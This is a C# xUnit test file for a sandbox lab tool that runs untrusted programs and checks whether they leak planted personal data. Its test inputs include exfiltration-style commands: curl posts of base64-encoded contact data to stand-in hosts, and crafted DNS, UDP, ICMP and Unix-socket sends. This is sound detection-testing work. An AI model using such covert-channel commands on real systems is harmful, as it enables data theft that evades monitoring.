using System.Net.Sockets;

namespace Offproof.Lab.Tests;

/// <summary>Programs that are not ours.</summary>
public sealed class ForeignTests
{
    [Fact]
    public async Task A_program_that_sends_nothing_is_held_and_the_control_is_seen_all_the_same()
    {
        (LabReport report, string folder) = await Lab.RunAsync("run true\nsection quiet\nrun sleep 0.1\nexpect nothing\nexpect CLEAN\n");
        Assert.True(report.Result == "held", Lab.Text(report));
        Assert.Empty(report.Seen);
        Assert.Contains(report.Counters, static count => count is { Source: "interface", Direction: "sent", Packets: > 0 });
        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public async Task A_script_with_curl_that_posts_a_planted_contact_is_a_LEAK_with_its_chain()
    {
        (LabReport report, string folder) = await Lab.RunAsync("""
            sink 8080
            sink 443
            section plain
            run curl -sf --data-binary "$(printf 'name=Jonas&number=+33639983361' | base64 -w0)" http://198.51.100.1:8080/sync
            section through TLS
            run curl -sf -H 'X-Who: gasopatobanesobe@example.net' https://cloud.example.org/
            section off
            run true
            expect nothing
            """);
        Assert.True(report is { Result: "broken", IsLeak: true }, Lab.Text(report));
        Assert.All(report.Sections.Skip(1).SkipLast(1), static section => Assert.Equal("LEAK", section.Verdict));
        Assert.Contains(report.Sections[1].Findings, static finding => finding is { Kind: "contact-phone", Server: "198.51.100.1:8080" } && finding.Chain.Contains("base64", StringComparer.Ordinal));
        Assert.Contains(report.Sections[2].Findings, static finding => finding.Kind == "contact-email" && finding.Server == "198.51.100.1:443");
        Assert.Null(report.Sections[3].Verdict);
        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public async Task What_was_expected_and_is_not_so_breaks_the_run()
    {
        (LabReport report, string folder) = await Lab.RunAsync("sink 8080\nsection quiet\nrun curl -sf http://198.51.100.1:8080/\nexpect nothing\nrun 3 sh -c 'exit 4'\nrun true\n");
        Assert.Equal("broken", report.Result);
        Assert.False(report.IsLeak);
        Assert.Contains(report.Reasons, static reason => reason.Contains("line 4: in quiet, not nothing", StringComparison.Ordinal));
        Assert.Contains(report.Reasons, static reason => reason.Contains("ended with 4, not 3", StringComparison.Ordinal));
        Assert.DoesNotContain(report.Steps, static step => step.Line == 6);
        Directory.Delete(folder, recursive: true);
    }

    // With a ledger that says that nothing was sent: each way out is named.
    [Theory]
    [InlineData("curl -s -m 3 http://198.51.100.1:8081/", "tcp 198.51.100.2", "198.51.100.1:8081")]
    [InlineData("curl -s -m 1 http://203.0.113.9/", "tcp 198.51.100.2", "203.0.113.9:80: an attempt without a line")]
    [InlineData("bash -c 'printf \"\\\\1\\\\2\\\\1\\\\0\\\\0\\\\1\\\\0\\\\0\\\\0\\\\0\\\\0\\\\0\\\\6secret\\\\7example\\\\0\\\\0\\\\1\\\\0\\\\1\" >/dev/udp/198.51.100.1/53'", "dns question secret.example to 198.51.100.1")]
    [InlineData("bash -c 'echo x >/dev/udp/198.51.100.1/9999'", "udp to 198.51.100.1:9999")]
    [InlineData("perl -MSocket -e 'socket(S,PF_INET,SOCK_RAW,1) or die; $p=pack(\"CCnnn\",8,0,63485,1,1).\"x\"; send(S,$p,0,sockaddr_in(0,inet_aton(\"198.51.100.1\"))) or die'", "icmp type 8 to 198.51.100.1")]
    public async Task A_way_beside_the_ledger_is_seen_and_named(string command, params string[] named)
    {
        (LabReport report, string folder) = await Lab.RunAsync($"ledger ledger.ndjson\nsink 8081\nrun any {command}\n");
        Assert.Equal("broken", report.Result);
        Assert.All(named, part => Assert.True(report.Reasons.Any(reason => reason.Contains(part, StringComparison.Ordinal)), $"{part} is not in\n{Lab.Text(report)}"));
        Assert.True(report.Ledger!.UnmatchedBytes > 0);
        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public async Task A_Unix_socket_to_somebody_outside_is_seen_and_named_and_one_to_itself_is_not()
    {
        string path = Path.Combine(Path.GetTempPath(), $"offproof-lab-{Environment.ProcessId}.socket");
        using Socket outside = new(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
        outside.Bind(new UnixDomainSocketEndPoint(path));
        outside.Listen();
        const string connect = "perl -MIO::Socket::UNIX -e 'my $own=IO::Socket::UNIX->new(Local=>$ARGV[1],Listen=>1); IO::Socket::UNIX->new(Peer=>$ARGV[0]) or die; IO::Socket::UNIX->new(Peer=>$ARGV[1]) or die'";
        (LabReport report, string folder) = await Lab.RunAsync($"run {connect} {path} own.socket\nexpect nothing\n");
        Assert.Equal("broken", report.Result);
        Assert.Equal($"connect to the Unix socket {path}", Assert.Single(report.Crossings).Call);
        File.Delete(path);
        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public async Task A_program_in_the_background_ends_with_the_run_and_starts_again_with_a_reboot()
    {
        (LabReport report, string folder) = await Lab.RunAsync("start sh -c 'echo begun >>begun; sleep 300'\nwait 1s\nreboot\nwait 1s\nstop\nrun test $(wc -l <begun) = 2\n");
        Assert.True(report.Result == "held", Lab.Text(report));
        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public async Task A_day_passes_by_the_clock_of_the_device()
    {
        (LabReport report, string folder) = await Lab.RunAsync("run date +%s >before\nwait 1d\nrun test $(($(date +%s) - $(cat before))) -ge 86400\nrun test $(($(date +%s) - $(cat before))) -lt 87000\n");
        Assert.True(report.Result == "held", Lab.Text(report));
        Directory.Delete(folder, recursive: true);
    }
}
